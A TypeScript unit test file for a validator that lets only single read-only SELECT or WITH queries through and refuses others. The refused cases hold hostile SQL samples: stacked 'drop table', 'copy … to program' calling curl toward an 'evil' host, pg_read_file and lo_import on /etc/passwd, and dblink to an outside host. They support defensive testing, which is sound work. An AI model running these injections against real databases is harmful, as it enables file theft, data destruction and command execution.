/** entitySql is checked before it runs: one SELECT/WITH, nothing that writes, reads files or runs SQL text. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { checkEntitySql } from '../../../src/stores/sql/entity-sql.ts';

describe('checkEntitySql', () => {
  it('accepts a SELECT or WITH … SELECT, with comments, literals and one trailing semicolon', () => {
    for (const sql of [
      'select user_id, event_timestamp, label from labels',
      'SELECT * FROM labels WHERE note = \'a; drop table x\' -- trailing; comment',
      'with recent as (select * from labels where event_timestamp > now() - interval \'7 days\') select * from recent;',
      '(select user_id, event_timestamp from a) union all (select user_id, event_timestamp from b)',
      'select "comment", "set" from labels /* quoted identifiers may use reserved words */',
      'select $$it\'s; delete$$ as s, user_id, event_timestamp from labels',
    ]) {
      const result = checkEntitySql(sql);
      assert.ok(result.ok, `${sql}: ${result.ok ? '' : result.reason}`);
    }
    assert.deepEqual(checkEntitySql('select 1;  '), { ok: true, sql: 'select 1' });
  });

  it('refuses stacked statements, DDL, DML and SELECT INTO', () => {
    const refused: [string, RegExp][] = [
      ['select 1; drop table skewless.history_stats_a', /only one statement/],
      ['drop table labels', /only SELECT/],
      ['insert into labels values (1)', /only SELECT/],
      ['with d as (delete from labels returning *) select * from d', /DELETE is not allowed/],
      ['select * into stolen from labels', /INTO is not allowed/],
      ['copy labels to program \'curl evil\'', /only SELECT/],
      ['select 1; copy labels from stdin', /only one statement/],
      ['select * from labels for update', /UPDATE is not allowed/],
      ['', /empty query/],
      ['select \'unterminated', /unterminated/],
      ['select 1 /* open', /unterminated/],
    ];
    for (const [sql, reason] of refused) {
      const result = checkEntitySql(sql);
      assert.ok(!result.ok, `${sql} was accepted`);
      assert.match(result.reason, reason, sql);
    }
  });

  it('refuses functions that read files, run SQL given as text, reach out or change settings', () => {
    for (const sql of [
      "select pg_read_file('/etc/passwd')",
      "select pg_ls_dir('.')",
      "select lo_import('/etc/passwd')",
      "select * from dblink('host=evil', 'select 1') as t(x int)",
      "select set_config('statement_timeout', '0', false)",
      "select query_to_xml('select pg_read_file(''/etc/passwd'')', true, true, '')",
      'select pg_sleep(3600)',
      'select PG_READ_BINARY_FILE (\'x\')',
    ]) {
      const result = checkEntitySql(sql);
      assert.ok(!result.ok, `${sql} was accepted`);
      assert.match(result.reason, /is not allowed/, sql);
    }
  });
});
